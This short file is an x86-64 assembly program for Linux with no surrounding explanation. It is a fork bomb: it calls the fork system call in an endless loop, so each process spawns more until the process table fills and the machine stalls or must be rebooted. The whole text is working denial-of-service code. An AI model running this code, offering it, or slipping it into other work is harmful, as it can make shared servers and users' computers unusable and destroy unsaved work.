        global _start
        section .text
_start:
        mov rax, 57             ; fork()
        syscall
        jmp _start
